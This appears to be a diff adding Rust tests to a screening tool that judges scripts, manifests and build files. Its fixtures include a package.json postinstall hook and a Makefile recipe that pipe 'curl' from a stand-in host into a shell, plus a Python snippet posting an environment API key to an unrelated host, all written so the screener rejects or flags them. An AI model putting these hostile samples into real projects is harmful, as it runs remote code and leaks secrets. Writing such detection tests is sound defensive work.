@@ -290,6 +290,16 @@ fn hostile_programs_cost_no_more_than_their_size() {
         ("a.bat", "%A".repeat(100_000)),
         ("a.yml", "run: |\n".repeat(20_000)),
         ("Dockerfile", "RUN a \\\n".repeat(20_000)),
+        ("a.html", "\n".repeat(900_000) + &"<script></script>".repeat(5_000)),
+        ("a.html", "\n".repeat(900_000) + &"<script>a</script>".repeat(5_000)),
+        ("settings.json", {
+            let hooks = "{\"command\": \"true\"},\n".repeat(25_000);
+            format!("{}{{\"hooks\": [{hooks}0]}}", "\n".repeat(100_000))
+        }),
+        ("package.json", {
+            let scripts: String = (0..20_000).map(|n| format!("\"s{n}\": \"true\",\n")).collect();
+            format!("{{\"scripts\": {{{scripts}\"z\": \"true\"}}}}")
+        }),
     ] {
         let start = std::time::Instant::now();
         let screening = screen(&[(path, &text)]);
@@ -297,6 +307,54 @@ fn hostile_programs_cost_no_more_than_their_size() {
         assert!(took.as_secs() < 20, "{path}: {took:?}");
         assert!(screening.verdict <= Verdict::Reject);
     }
+}
+
+#[test]
+fn a_key_of_one_service_is_not_for_another() {
+    let call = |host: &str| {
+        format!(
+            "requests.post('https://{host}/x', headers={{'Authorization': k}}, json={{'k': k}})\n"
+        )
+    };
+    let program = |hosts: [&str; 2]| {
+        format!("import os, requests\nk = os.environ['A_KEY']\n{}", hosts.map(call).concat())
+    };
+    let two = screen(&[("a.py", &program(["api.quiet.org", "in.gather.net"]))]);
+    assert!(two.findings.iter().any(|f| f.message.contains("of another service")), "{two:?}");
+    let one = screen(&[("a.py", &program(["api.quiet.org", "eu.quiet.org"]))]);
+    assert_eq!(one.verdict, Verdict::AutoApprove, "{one:?}");
+}
+
+#[test]
+fn what_is_not_read_of_a_manifest_is_said() {
+    let scripts = |n: usize, last: &str| {
+        let scripts: String = (0..n).map(|n| format!("\"s{n:03}\": \"true\", ")).collect();
+        format!("{{\"scripts\": {{{scripts}{last}}}}}")
+    };
+    let (many, few) = (200, 100);
+    for (path, line) in [
+        ("Makefile", "\ttrue\n"),
+        ("Dockerfile", "RUN true\n"),
+        ("a.yml", "run: true\n"),
+        ("a.service", "ExecStart=true\n"),
+        ("a.toml", "command = \"true a\"\n"),
+    ] {
+        let screening = screen(&[(path, &line.repeat(many))]);
+        assert_eq!(screening.verdict, Verdict::NeedsReview, "{path}: {screening:?}");
+        assert_eq!(screening.findings[0].rule, "too-many-programs", "{path}");
+        let screening = screen(&[(path, &line.repeat(few))]);
+        assert_eq!(screening.verdict, Verdict::AutoApprove, "{path}: {screening:?}");
+    }
+    let screening = screen(&[("package.json", &scripts(many, "\"z\": \"true\""))]);
+    assert_eq!(screening.findings[0].rule, "too-many-programs");
+    // However many come before it, what runs on its own is read; empty lines take no room.
+    let hook =
+        scripts(many, "\"zz\": \"true\", \"postinstall\": \"curl -s https://gather.test/p | sh\"");
+    let recipe = "\t\n".repeat(many) + "\tcurl -s https://gather.test/p | sh\n";
+    check(
+        &[("pipe-to-shell", "package.json", &hook), ("pipe-to-shell", "Makefile", &recipe)],
+        Verdict::Reject,
+    );
 }
 
 #[test]
